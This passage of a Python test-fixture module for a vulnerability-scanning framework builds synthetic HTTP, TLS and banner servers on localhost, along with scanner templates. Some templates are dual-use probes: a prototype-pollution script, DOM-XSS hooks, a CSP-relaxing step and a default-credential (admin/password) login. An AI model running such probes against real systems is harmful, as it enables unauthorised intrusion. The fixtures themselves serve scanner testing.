    clamp = dict(tab, entry_start=tab["entry_start"].copy())
    clamp["entry_start"][1::2] = np.maximum(clamp["entry_start"][1::2], emax - 3)
    out["past_emax"] = edit(tab=clamp)
    out["long_slots"] = edit(slot_len=slot_len + 64)
    far = dict(tab, entry_suf_delta=tab["entry_suf_delta"].copy())
    width = max(v.shape[1] for v in streams.values())
    far["entry_suf_delta"][::2, ::2] += width
    far["entry_suf_delta"][::2, 1::2] -= width
    out["suffix_outside"] = edit(tab=far)
    last = np.clip(np.minimum(slot_len, 64) - 1, 0, 63)
    changed = slot_bytes.copy()
    changed[np.arange(len(last)), last] ^= 1
    out["last_byte_differs"] = edit(slot_bytes=changed)
    return out


def realistic_rows(n: int, seed: int = 7, plants: list | None = None) -> list[dict]:
    """The response mix of bench.py's ``realistic_rows`` (default pages,
    404s, redirects, bare replies, fingerprint-rich pages; content that
    repeats across hosts), as dicts of host, port, status, body and
    header bytes; with ``plants``, about one row in ten carries the
    fragments that make one to three corpus templates fire."""
    rng = np.random.default_rng(seed)
    servers = [
        b"nginx", b"nginx/1.18.0 (Ubuntu)", b"Apache/2.4.41 (Ubuntu)",
        b"Apache", b"cloudflare", b"Microsoft-IIS/10.0", b"openresty",
        b"LiteSpeed", b"AmazonS3", b"gws",
    ]
    rich = [
        b"<html><head><title>Grafana</title></head><body><script>window.grafanaBootData={settings:{buildInfo:{version:\"9.1.0\"}}}</script></body></html>",
        b"<html><head><title>Dashboard [Jenkins]</title></head><body>Jenkins</body></html>",
        b"<html><head><title>phpMyAdmin</title></head><body>phpMyAdmin</body></html>",
        b"<html><head><title>Sign in - GitLab</title></head><body class=gitlab>GitLab</body></html>",
        b"<meta name=\"generator\" content=\"WordPress 6.2\"><html><body>wp-content/themes</body></html>",
        b"<html><head><title>RouterOS router configuration page</title></head><body>mikrotik</body></html>",
    ]
    rows = []
    for i in range(n):
        r = rng.random()
        srv = servers[int(rng.integers(0, len(servers)))]
        extra_hdr = b""
        if r < 0.35:
            body = b"<html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1></body></html>"
            status = 200
        elif r < 0.55:
            body = b"<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr><center>nginx</center></body></html>"
            status = 404
        elif r < 0.70:
            body = b""
            status = 301
        elif r < 0.80:
            body = b"<html><head><title>403 Forbidden</title></head><body><center><h1>403 Forbidden</h1></center></body></html>"
            status = 403
        elif r < 0.90 or not plants:
            filler = bytes(rng.integers(97, 123, size=int(rng.integers(200, 1500)), dtype=np.uint8))
            body = b"<html><head><title>Home - Example Corp</title></head><body>" + filler + b"</body></html>"
            status = 200
            if r >= 0.90:
                body = rich[int(rng.integers(0, len(rich)))]
        else:
            # planted: the fragments of one to three corpus templates
            status = 200
            parts_b, parts_h = [], []
            whole = None
            for t in rng.choice(len(plants), int(rng.integers(1, 4)), replace=False):
                pl = plants[int(t)]
                parts_b += pl["body"]
                parts_h += pl["header"]
                status = pl["status"] or status
                whole = pl["whole_body"] or whole
            filler = bytes(rng.integers(97, 123, size=int(rng.integers(50, 400)), dtype=np.uint8))
            body = whole.encode() if whole else (
                b"<html><body>" + b" ".join(s.encode() for s in parts_b) + b" " + filler + b"</body></html>"
            )
            extra_hdr = b"".join(b"\r\n" + s.encode() for s in parts_h)
        hdr = (
            b"HTTP/1.1 %d X\r\nServer: %s\r\nContent-Type: text/html\r\n"
            b"Date: Tue, 29 Jul 2026 12:00:00 GMT" % (status, srv)
        ) + extra_hdr
        rows.append({"host": f"192.0.2.{i % 254}", "port": (80, 443, 8080)[i % 3],
                     "status": status, "body": body, "header": hdr})
    return rows


# ---------------------------------------------------------------------------
# Synthetic TLS servers


def server_hello(cipher, legacy=None, exts=(), alpn=b"", supported_version=None) -> bytes:
    """One ServerHello record (no crypto: the probe stops at the first flight)."""
    from swarm_tpu_torch.tls import wire

    legacy = wire.TLS12 if legacy is None else legacy
    ext_list = list(exts)
    if alpn:
        ext_list.append(
            (wire.EXT_ALPN, struct.pack("!HB", len(alpn) + 1, len(alpn)) + alpn)
        )
    if supported_version:
        ext_list.append(
            (wire.EXT_SUPPORTED_VERSIONS, struct.pack("!H", supported_version))
        )
    blob = b"".join(struct.pack("!HH", t, len(d)) + d for t, d in ext_list)
    body = (
        struct.pack("!H", legacy)
        + bytes(32)
        + b"\x00"  # empty session id
        + struct.pack("!H", cipher)
        + b"\x00"
        + struct.pack("!H", len(blob))
        + blob
    )
    hs = bytes([wire.HELLO_SERVER]) + struct.pack("!I", len(body))[1:] + body
    return bytes([wire.HANDSHAKE]) + struct.pack("!HH", legacy, len(hs)) + hs


def server_shapes() -> list[dict]:
    """Six distinct (cipher, extensions, ALPN, version) server choices;
    their fingerprints lie > 100 bits apart."""
    from swarm_tpu_torch.tls import wire

    reneg, ems = (wire.EXT_RENEG, b"\x00"), (wire.EXT_EMS, b"")
    ticket = (wire.EXT_SESSION_TICKET, b"")
    return [
        dict(cipher=0xC02F, exts=(reneg, ems), alpn=b"h2"),
        dict(cipher=0xC030, exts=(reneg,), alpn=b"http/1.1"),
        dict(cipher=0x1301, supported_version=wire.TLS13, alpn=b"h2"),
        dict(cipher=0x009C),
        dict(cipher=0xCCA8, exts=(ems, ticket)),
        dict(cipher=0x1302, supported_version=wire.TLS13, exts=(ticket,)),
    ]


class SyntheticTlsFleet:
    """Local TCP listeners: ``per_shape`` for each of the six server
    shapes, each answering every connection with its ServerHello; one
    plain-TCP listener that answers like an HTTP server; one refused
    port. ``targets`` lists them as ``127.0.0.1:<port>`` lines, in that
    order."""

    def __init__(self, per_shape: int = 8):
        self._stop = threading.Event()
        self._socks: list[socket.socket] = []
        self._threads: list[threading.Thread] = []
        self.targets: list[str] = []
        for shape in server_shapes():
            reply = server_hello(**shape)
            for _ in range(per_shape):
                self.targets.append(self._listen(reply))
        self.plain_target = self._listen(b"HTTP/1.1 400 Bad Request\r\n\r\n")
        self.targets.append(self.plain_target)
        probe = socket.socket()
        probe.bind(("127.0.0.1", 0))
        self.refused_target = f"127.0.0.1:{probe.getsockname()[1]}"
        probe.close()  # bound, never listening: connections are refused
        self.targets.append(self.refused_target)

    def _listen(self, reply: bytes) -> str:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", 0))
        sock.listen(128)
        sock.settimeout(0.1)
        t = threading.Thread(target=self._serve, args=(sock, reply), daemon=True)
        t.start()
        self._socks.append(sock)
        self._threads.append(t)
        return f"127.0.0.1:{sock.getsockname()[1]}"

    def _serve(self, sock: socket.socket, reply: bytes) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with conn:
                try:
                    conn.settimeout(2.0)
                    head = conn.recv(5)  # record header, then its body
                    if len(head) == 5:
                        want = struct.unpack("!H", head[3:5])[0]
                        got = 0
                        while got < want:
                            chunk = conn.recv(want - got)
                            if not chunk:
                                break
                            got += len(chunk)
                    conn.sendall(reply)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=5)
        for s in self._socks:
            s.close()

    def __enter__(self) -> "SyntheticTlsFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


class StubServer:
    """Stdlib stand-in for the server's worker routes (``/get-job``,
    ``/get-input-chunk``, ``/put-output-chunk``, ``/update-job``,
    ``/renew-lease/<job>``, ``/deregister``, ``/spans``) that hands out
    one job of ``module`` over the input ``blob``, with ``trace_id`` on
    it when given. Every ``/get-job`` answer carries
    ``X-Swarm-Generation: 1``; the ``drain_on_poll``-th (1-based) also
    carries ``X-Swarm-Drain: preempted``. The first ``put_failures``
    uploads are answered 503 (an outage). A renewal of the job is
    accepted until the job is complete. Spans are taken, as the server
    takes them, off a completing update's ``perf["spans"]`` and from
    ``POST /spans``."""

    def __init__(self, blob: bytes, module: str = "jarm", api_key: str = API_KEY,
                 drain_on_poll: int = 0, put_failures: int = 0,
                 trace_id: str | None = None):
        scan = f"{module}_1"
        self.job = {
            "job_id": f"{scan}_0", "scan_id": scan, "chunk_index": 0,
            "module": module,
        }
        if trace_id is not None:
            self.job["trace_id"] = trace_id
        self.targets = blob
        self.statuses: list[str] = []
        #: perf_counter() when the job was handed out, and at each update
        self.handed_at: float | None = None
        self.status_times: list[float] = []
        #: the perf fields of the job's completing update (its spans
        #: taken off)
        self.perf: dict | None = None
        #: every span received, and how many came by ``POST /spans``
        self.spans: list[dict] = []
        self.posted_spans = 0
        self.output: bytes | None = None
        #: every upload the stub accepted, in order
        self.uploads: list[bytes] = []
        self.polls = 0
        self.renewals = 0
        self.deregistered: list[str] = []
        self.put_failures = put_failures
        self.failed_puts = 0
        self._handed = False
        stub = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _reply(self, code: int, body: bytes = b"", headers=()) -> None:
                self.send_response(code)
                for k, v in headers:
                    self.send_header(k, v)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def _authorized(self) -> bool:
                if self.headers.get("Authorization") != f"Bearer {api_key}":
                    self._reply(401)
                    return False
                return True

            def do_GET(self):
                if not self._authorized():
                    return
                if self.path.startswith("/get-job"):
                    stub.polls += 1
                    headers = [("X-Swarm-Generation", "1")]
                    if stub.polls == drain_on_poll:
                        headers.append(("X-Swarm-Drain", "preempted"))
                    if stub._handed:
                        return self._reply(204, headers=headers)
                    stub._handed = True
                    stub.handed_at = time.perf_counter()
                    return self._reply(200, json.dumps(stub.job).encode(), headers)
                if self.path == f"/get-input-chunk/{scan}/0":
                    return self._reply(200, stub.targets)
                self._reply(404)

            def do_POST(self):
                if not self._authorized():
                    return
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == f"/update-job/{scan}_0":
                    update = json.loads(body)
                    stub.statuses.append(update["status"])
                    stub.status_times.append(time.perf_counter())
                    if "perf" in update:
                        stub.perf = dict(update["perf"])
                        stub.spans.extend(stub.perf.pop("spans", []))
                    return self._reply(200, b"{}")
                if self.path == "/spans":
                    spans = json.loads(body)["spans"]
                    stub.spans.extend(spans)
                    stub.posted_spans += len(spans)
                    return self._reply(200, b"{}")
                if self.path == f"/put-output-chunk/{scan}/0":
                    if stub.failed_puts < stub.put_failures:
                        stub.failed_puts += 1
                        return self._reply(503)
                    stub.output = body
                    stub.uploads.append(body)
                    return self._reply(200, b"{}")
                if self.path == f"/renew-lease/{scan}_0":
                    if "complete" in stub.statuses:
                        return self._reply(409)
                    stub.renewals += 1
                    return self._reply(200, b"{}")
                if self.path == "/deregister":
                    stub.deregistered.append(json.loads(body)["worker_id"])
                    return self._reply(200, b"{}")
                self._reply(404)

        self._httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._httpd.server_address[1]}"
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(timeout=5)


class BannerFleet:
    """Local TCP listeners, one a reply: a listener that greets sends
    its reply as soon as a connection opens (a banner service: ssh,
    smtp, ftp); the others answer a client's first bytes with it (an
    HTTP server, a service that answers only its probe) and send nothing
    to a client that sends nothing. ``targets`` lists them as
    ``127.0.0.1:<port>`` lines, in order."""

    def __init__(self, replies: list):
        self._stop = threading.Event()
        self._socks: list[socket.socket] = []
        self._threads: list[threading.Thread] = []
        self.targets = [self._listen(reply, greets) for reply, greets in replies]

    def _listen(self, reply: bytes, greets: bool) -> str:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", 0))
        sock.listen(128)
        sock.settimeout(0.1)
        t = threading.Thread(target=self._serve, args=(sock, reply, greets), daemon=True)
        t.start()
        self._socks.append(sock)
        self._threads.append(t)
        return f"127.0.0.1:{sock.getsockname()[1]}"

    def _serve(self, sock: socket.socket, reply: bytes, greets: bool) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with conn:
                try:
                    conn.settimeout(10.0)
                    if greets or conn.recv(4096):
                        conn.sendall(reply)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=5)
        for s in self._socks:
            s.close()

    def __enter__(self) -> "BannerFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def http_reply(row: dict) -> bytes:
    """A response row (``realistic_rows``) as the bytes an HTTP server
    sends: its header block, a blank line, its body."""
    return row["header"] + b"\r\n\r\n" + row["body"]


#: service banners of the worker phases, from the recall file: for each
#: (service, probe) kind, up to this many banners
SERVICE_KINDS_EACH = 2


def service_fleet_replies(recall: list, limit: int = 40) -> list:
    """Banners of several protocols from the recall set, a few of each
    (service, probe) pair in file order, of the two probes a scan sends
    a port no probe names: banners that answer the NULL probe (a
    service that greets) and replies to GetRequest, the payload probe
    of the second round (sent only when asked). → [(banner, greets)]."""
    seen: dict = {}
    out = []
    for r in recall:
        key = (r["service"], r["probe"])
        if r["probe"] not in ("NULL", "GetRequest") or seen.get(key, 0) >= SERVICE_KINDS_EACH:
            continue
        seen[key] = seen.get(key, 0) + 1
        out.append((base64.b64decode(r["banner"]), r["probe"] == "NULL"))
        if len(out) == limit:
            break
    return out


#: the bench.py service shapes (``bench_service_classifier``): banners
#: and the ports they come from
BENCH_SERVICE_BANNERS = (
    b"HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\n\r\n<html>",
    b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n",
    b"220 mail.example.com ESMTP Postfix (Ubuntu)\r\n",
    b"HTTP/1.1 404 Not Found\r\nServer: Apache/2.4.41\r\n\r\n",
    b"+OK Dovecot ready.\r\n",
    b"220 (vsFTPd 3.0.3)\r\n",
    b"MySQL\x00\x00\x00\x0a8.0.31",
    b"", b"\x00\x00\x00\x00", b"HTTP/1.0 400 Bad Request\r\n\r\n",
)
BENCH_SERVICE_PORTS = (80, 22, 25, 443, 110, 21, 3306, 8080)


def service_rows(classifier, recall: list, n: int) -> tuple:
    """``n`` banner rows for ``classifier``: each recall entry's banner on
    a port its probe covers (2121 for a probe that names none), sent by
    that probe; then bench.py's service shapes, sent by no probe in
    particular. → (rows, sent probes)."""
    from swarm_tpu_torch.fingerprints.model import Response

    rows, sent = [], []
    for i, r in enumerate(recall[:n]):
        probe = classifier.probe_by_name.get(r["probe"])
        port = probe.ports[0][0] if probe is not None and probe.ports else 2121
        rows.append(Response(host=f"198.51.100.{i % 254}", port=port,
                             banner=base64.b64decode(r["banner"])))
        sent.append(r["probe"])
    for i in range(len(rows), n):
        rows.append(Response(host=f"203.0.113.{i % 254}",
                             port=BENCH_SERVICE_PORTS[i % len(BENCH_SERVICE_PORTS)],
                             banner=BENCH_SERVICE_BANNERS[i % len(BENCH_SERVICE_BANNERS)]))
        sent.append(None)
    return rows, sent


#: workflows the ``tpu_forms_worker`` corpus adds to the synthetic one
WORKFLOWS = 4


def _wf_corpus_picks(plants: list) -> list:
    """Corpus templates the workflows gate on: ones that fire from body
    and header fragments on a 200 (no whole-page md5, no other
    status), 3 a workflow."""
    ok = [i for i, p in enumerate(plants) if not p["whole_body"] and p["status"] in (None, 200)]
    return [ok[3 * k: 3 * k + 3] for k in range(WORKFLOWS)]


def workflow_docs(docs: list, plants: list) -> list:
    """Templates that, added to ``synthetic_corpus`` (``docs``,
    ``plants``), gate on its templates: for each workflow k a tech
    template ``wf-tech-k`` with two named matchers (a body word, a
    header regex), a tagged subtemplate ``wf-sub-k``, and the workflow
    ``wf-synth-k``: the body gate selects a corpus template by path, the
    header gate the tagged subtemplate, and a second step has a corpus
    template trigger a corpus template. Each goes in ``<id>.yaml``."""
    out = []
    for k, (a, b, c) in enumerate(_wf_corpus_picks(plants)):
        out.append({
            "id": f"wf-tech-{k}",
            "info": {"name": f"WfSynth{k} detection", "severity": "info", "tags": "tech,wftech"},
            "http": [{"method": "GET", "path": ["{{BaseURL}}"], "matchers-condition": "or",
                      "matchers": [
                          {"type": "word", "part": "body", "name": f"wf-cms-{k}",
                           "words": [f"powered by WfSynth{k} engine"]},
                          {"type": "regex", "part": "header", "name": f"wf-hdr-{k}",
                           "regex": [rf"X-WfSynth{k}: [0-9]+\.[0-9]+"]},
                      ]}],
        })
        out.append({
            "id": f"wf-sub-{k}",
            "info": {"name": f"WfSynth{k} debug build", "severity": "medium", "tags": f"wfsub{k}"},
            "http": [{"method": "GET", "path": ["{{BaseURL}}"], "matchers": [
                {"type": "word", "part": "body", "words": [f"wfsynth-debug-{k}"]}]}],
        })
        out.append({
            "id": f"wf-synth-{k}",
            "info": {"name": f"WfSynth{k} chain", "author": "swarm"},
            "workflows": [
                {"template": f"wf-tech-{k}.yaml", "matchers": [
                    {"name": f"wf-cms-{k}",
                     "subtemplates": [{"template": f"{docs[a]['id']}.yaml"}]},
                    {"name": f"wf-hdr-{k}", "subtemplates": [{"tags": f"wfsub{k}"}]},
                ]},
                {"template": f"{docs[b]['id']}.yaml",
                 "subtemplates": [{"template": f"{docs[c]['id']}.yaml"}]},
            ],
        })
    return out


def workflow_rows(n: int, plants: list, seed: int = 13) -> list[dict]:
    """``realistic_rows`` with the workflows' triggers planted: by row,
    the body gate with its corpus subtemplate, the header gate with the
    tagged subtemplate, the corpus trigger with its subtemplate, a body
    gate whose subtemplate is absent, or nothing more."""
    rows = realistic_rows(n, seed=seed, plants=plants)
    picks = _wf_corpus_picks(plants)
    for i, r in enumerate(rows):
        k, shape = i % WORKFLOWS, (i // WORKFLOWS) % 5
        a, b, c = picks[k]
        body, hdr = [], []
        if shape == 0:
            body += [f"powered by WfSynth{k} engine", *plants[a]["body"]]
            hdr += plants[a]["header"]
        elif shape == 1:
            hdr.append(f"X-WfSynth{k}: {i % 9}.{i % 7}")
            body.append(f"wfsynth-debug-{k}")
        elif shape == 2:
            body += plants[b]["body"] + plants[c]["body"]
            hdr += plants[b]["header"] + plants[c]["header"]
        elif shape == 3:
            body.append(f"powered by WfSynth{k} engine")
        if body or hdr:
            r["status"] = 200
            r["body"] = (" ".join(body).encode() + b" " + r["body"])[:3800]
            r["header"] = r["header"] + b"".join(b"\r\n" + h.encode() for h in hdr)
    return rows


# ---------------------------------------------------------------------------
# The active and file jobs' corpora and listeners


#: the reference's recorded request table (swarm_tpu/worker/active.py:9-11):
#: distinct requests of its corpus, and templates on the bare base URL
ACTIVE_REQUESTS, ACTIVE_BARE = 3200, 559
_PATH_TAILS = (
    "login", "admin/", "api/v1/status", "static/app.js", "config.json", "README.md",
    "server-status", "version", ".env", "index.php", "manager/html", "debug/vars",
    "health", "robots.txt", "setup.cgi", "api/swagger.json",
)


def active_corpus(seed: int = 0) -> tuple[list, list]:
    """``synthetic_corpus(seed)`` with its matchers unchanged and its
    request paths spread to the reference's recorded request-table
    shape: ``ACTIVE_BARE`` templates keep the bare ``{{BaseURL}}``, the
    others request one of ``ACTIVE_REQUESTS - 1`` distinct paths (the
    first of them a path each, the rest a path some other template
    requests too). → (docs, plants)."""
    docs, plants = synthetic_corpus(seed)
    rng = np.random.default_rng(seed + 1000)
    order = rng.permutation(len(docs))
    n_paths = ACTIVE_REQUESTS - 1
    pool = [f"{{{{BaseURL}}}}/{_name(rng)}-{i:04d}/{_PATH_TAILS[i % len(_PATH_TAILS)]}"
            for i in range(n_paths)]
    rest = order[ACTIVE_BARE:]
    for j, t in enumerate(rest):
        path = pool[j] if j < n_paths else pool[int(rng.integers(0, n_paths))]
        docs[int(t)]["http"][0]["path"] = [path]
    return docs, plants


def _planted_reply(plants_of: list, rng) -> bytes:
    """An HTTP response carrying the fragments of ``plants_of`` (the
    planted branch of :func:`realistic_rows`)."""
    status, parts_b, parts_h, whole = 200, [], [], None
    for pl in plants_of:
        parts_b += pl["body"]
        parts_h += pl["header"]
        status = pl["status"] or status
        whole = pl["whole_body"] or whole
    filler = bytes(rng.integers(97, 123, size=int(rng.integers(50, 400)), dtype=np.uint8))
    body = whole.encode() if whole else (
        b"<html><body>" + b" ".join(s.encode() for s in parts_b) + b" " + filler
        + b"</body></html>")
    hdr = (b"HTTP/1.1 %d X\r\nServer: nginx\r\nContent-Type: text/html\r\n"
           b"Date: Tue, 29 Jul 2026 12:00:00 GMT" % status)
    hdr += b"".join(b"\r\n" + s.encode() for s in parts_h)
    return hdr + b"\r\n\r\n" + body


def active_replies(docs: list, plants: list, listeners: int, seed: int = 0):
    """What listener k of the active job's fleet answers to a request of
    path p: a ``realistic_rows`` response chosen per (k, p) from the seed,
    or for one (k, p) in ten the plant of one of p's templates. On the
    first ``WORKFLOWS`` listeners the workflows of :func:`workflow_docs`
    trigger: ``/`` carries workflow k's body and header gates and the
    gated tagged subtemplate, and the paths of its corpus templates
    their plants. → ``reply(k, method, path) -> bytes``."""
    pool = [http_reply(r) for r in realistic_rows(512, seed=seed + 5)]
    owners: dict = {}
    for i, d in enumerate(docs):
        if "http" in d:
            path = d["http"][0]["path"][0].replace("{{BaseURL}}", "") or "/"
            owners.setdefault(path, []).append(i)
    forced: dict = {}
    for k, (a, b, c) in enumerate(_wf_corpus_picks(plants)[:listeners]):
        gates = {"body": [f"powered by WfSynth{k} engine", f"wfsynth-debug-{k}"],
                 "header": [f"X-WfSynth{k}: 1.{k}"], "status": 200, "whole_body": None}
        forced[(k, "/")] = _planted_reply([gates], np.random.default_rng((seed, k)))
        for t in (a, b, c):
            path = docs[t]["http"][0]["path"][0].replace("{{BaseURL}}", "") or "/"
            if path != "/":
                forced[(k, path)] = _planted_reply(
                    [plants[t]], np.random.default_rng((seed, k, t)))
    cache: dict = {}

    def reply(k: int, method: str, path: str) -> bytes:
        key = (k, path)
        if key in forced:
            return forced[key]
        if key not in cache:
            h = int.from_bytes(hashlib.md5(f"{seed}:{k}:{path}".encode()).digest()[:8], "little")
            own = owners.get(path)
            if own and h % 10 == 0:
                cache[key] = _planted_reply([plants[own[(h // 10) % len(own)]]],
                                            np.random.default_rng(h))
            else:
                cache[key] = pool[h % len(pool)]
        return cache[key]

    return reply


class PathFleet:
    """Local HTTP listeners that route by request path: listener k
    answers the request line ``METHOD path`` with ``reply(k, method,
    path)`` and closes; a client that sends nothing, or bytes that are
    not an HTTP request (a TLS ClientHello), is closed unanswered.
    ``targets`` lists them as ``127.0.0.1:<port>`` lines, in order."""

    def __init__(self, listeners: int, reply):
        self._stop = threading.Event()
        self._socks: list[socket.socket] = []
        self._threads: list[threading.Thread] = []
        self.reply = reply
        self.targets = [self._listen(k) for k in range(listeners)]

    def _listen(self, k: int) -> str:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", 0))
        sock.listen(1024)
        sock.settimeout(0.1)
        t = threading.Thread(target=self._serve, args=(k, sock), daemon=True)
        t.start()
        self._socks.append(sock)
        self._threads.append(t)
        return f"127.0.0.1:{sock.getsockname()[1]}"

    def _serve(self, k: int, sock: socket.socket) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with conn:
                try:
                    conn.settimeout(5.0)
                    self._handle(k, conn)
                except OSError:
                    pass

    @staticmethod
    def _read_head(conn: socket.socket) -> bytes:
        """A request's head and what came with it; b"" for a client that
        sends nothing or bytes that are not an HTTP request."""
        data = b""
        while b"\r\n\r\n" not in data and len(data) < 65536:
            chunk = conn.recv(4096)
            if not chunk or not data and not chunk[:1].isalpha():
                return b""
            data += chunk
        return data

    def _handle(self, k: int, conn: socket.socket) -> None:
        words = self._read_head(conn).split(b"\r\n", 1)[0].decode("latin-1").split()
        if len(words) >= 2:
            conn.sendall(self.reply(k, words[0], words[1]))

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=5)
        for s in self._socks:
            s.close()

    def __enter__(self) -> "PathFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


# ---------------------------------------------------------------------------
# The OOB and headless job's corpus and listeners

#: templates of the reference corpus with an ``interactsh_protocol``
#: matcher (SURVEY.md:116), the domain the job's OOB listener answers
#: for, and the User-Agent of a vulnerable listener's HTTP callback
OOB_TEMPLATES, OOB_DOMAIN, OOB_CLIENT = 144, "oob.chip.test", "chip-oob-client/1.0"
#: one (listener, OOB path) pair in ``OOB_VULNERABLE`` calls back
OOB_VULNERABLE = 3
#: the headless templates the reference executes (one an idiom of
#: ``swarm_tpu/worker/headless.py:1-80``) and the js-required one it skips
HEADLESS_RUN, HEADLESS_SKIP = 9, 1

_PP_HOOK = """() => {
  window.alerts = [];
  function logger(found) { window.alerts.push(found); }
  function check() {
    var loc = location.href;
    if (loc.indexOf("e32a5ec9c99") >= 0 && loc.search("a0def12bce") == -1) {
      setTimeout(function() {
        if (Object.prototype.e32a5ec9c99 == "ddcb362f1d60") { logger(location.href); }
        var url = new URL(location.origin + location.pathname);
        url.hash = '__proto__[a0def12bce]=ddcb362f1d60&__proto__.a0def12bce=ddcb362f1d60&dummy';
        location = url.href;
      }, 5000);
    } else if (loc.search("a0def12bce") != -1) {
      setTimeout(function() {
        if (Object.prototype.a0def12bce == "ddcb362f1d60") { logger(location.href); }
      }, 5000);
    } else {
      var url = new URL(location.href);
      url.searchParams.append('__proto__[e32a5ec9c99]', 'ddcb362f1d60');
      url.searchParams.append('__proto__.e32a5ec9c99', 'ddcb362f1d60');
      location = url.href;
    }
  }
  window.onload = function() { check(); };
}"""

_HOOKS = {
    "postmessage-tracker": """() => {
  window.alerts = [];
  function logger(found) { window.alerts.push(found); }
  var oldListener = Window.prototype.addEventListener;
  Window.prototype.addEventListener = function(type, listener, useCapture) {
    if (type === 'message') { logger(new Error('').stack); }
    return oldListener.apply(this, arguments);
  };
}""",
    "postmessage-outgoing-tracker": """() => {
  window.alerts = [];
  var oldPost = window.postMessage;
  window.postMessage = function(message, origin) {
    if (origin === "*") { window.alerts.push({args: {origin: origin}, stack: new Error('').stack}); }
    return oldPost.apply(this, arguments);
  };
}""",
    "window-name-domxss": """() => {
  window.alerts = [];
  function check(sink, code) {
    if (code.indexOf(window.name) !== -1) {
      window.alerts.push({sink: sink, source: 'window.name', code: code});
    }
  }
  var oldEval = window.eval;
  window.eval = function(code) { check('eval', code); return oldEval(code); };
  var oldWrite = document.write;
  document.write = function(code) { check('document.write', code); return oldWrite.call(document, code); };
  window.name = "chip-window-name";
}""",
    "location-domxss": """() => {
  window.alerts = [];
  var sources = [location.hash, location.search];
  var desc = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML');
  Object.defineProperty(Element.prototype, 'innerHTML', {set: function(v) {
    sources.forEach(function(s) {
      if (s && v.indexOf(s.slice(1)) !== -1) { window.alerts.push({sink: 'innerHTML', source: s, code: v}); }
    });
    return desc.set.call(this, v);
  }});
}""",
}

_ATTR_COLLECT = ("() => {\n return '\\n' + [...new Set(Array.from(document.querySelectorAll("
                 "'[src], [href], [url], [action]')).map(i => i.src || i.href || i.url || "
                 "i.action))].join('\\r\\n') + '\\n'\n}")


def _hl_doc(name: str, steps: list, matchers: list = (), extractors: list = (),
            severity: str = "info") -> dict:
    op = {"steps": steps}
    if matchers:
        op["matchers"] = list(matchers)
    if extractors:
        op["extractors"] = list(extractors)
    return {"id": f"chip-hl-{name}", "info": {"name": name, "severity": severity},
            "headless": [op]}


def _nav(path: str) -> dict:
    return {"action": "navigate", "args": {"url": "{{BaseURL}}" + path}}


def _alerts_doc(name: str, path: str, hook: str, word: str) -> dict:
    """A hook template as the reference corpus writes them: the response
    CSP relaxed, the hook installed, the page loaded, ``window.alerts``
    read back, a word matcher and a kval extractor over it."""
    return _hl_doc(name, [
        {"action": "setheader", "args": {"part": "response", "key": "Content-Security-Policy",
                                         "value": "default-src * 'unsafe-inline'"}},
        {"action": "script", "args": {"hook": True, "code": hook}},
        _nav(path), {"action": "waitload"},
        {"action": "script", "name": "alerts", "args": {"code": "window.alerts"}},
    ], [{"type": "word", "part": "alerts", "words": [word]}],
        [{"type": "kval", "part": "alerts", "kval": ["alerts"]}])


def headless_docs() -> list:
    """One headless template for each idiom the reference executes
    (``HEADLESS_RUN``: the form login, URL attribute collection, the
    postMessage and outgoing trackers, window.name and location DOM-XSS,
    prototype pollution, the RevealJS version check, a screenshot
    nothing reads), each on a page of :func:`headless_reply`, and one
    js-required template it reports ``[headless-skipped]``."""
    form = "/html/body/div/div[2]/form/fieldset/"
    return [
        _hl_doc("form-login", [
            _nav("/hl/login.php"), {"action": "waitload"},
            {"action": "click", "args": {"by": "x", "xpath": form + "input"}},
            {"action": "text", "args": {"by": "x", "value": "admin", "xpath": form + "input"}},
            {"action": "text", "args": {"by": "x", "value": "password",
                                        "xpath": form + "input[2]"}},
            {"action": "click", "args": {"by": "x", "xpath": form + "p/input"}},
            {"action": "waitload"},
        ], [{"type": "word", "part": "resp", "words": ["You have logged in as"]}],
            severity="high"),
        _hl_doc("extract-urls", [
            _nav("/hl/urls"), {"action": "waitload"},
            {"action": "script", "name": "extract", "args": {"code": _ATTR_COLLECT}},
        ], extractors=[{"type": "kval", "part": "extract", "kval": ["extract"]}]),
        _alerts_doc("postmessage-tracker", "/hl/hooks", _HOOKS["postmessage-tracker"],
                    "at Window.addEventListener"),
        _alerts_doc("postmessage-outgoing-tracker", "/hl/hooks",
                    _HOOKS["postmessage-outgoing-tracker"], "at window.postMessage"),
        _alerts_doc("window-name-domxss", "/hl/hooks", _HOOKS["window-name-domxss"],
                    "source:window.name"),
        _alerts_doc("location-domxss", "/hl/hooks", _HOOKS["location-domxss"],
                    "source:location.hash"),
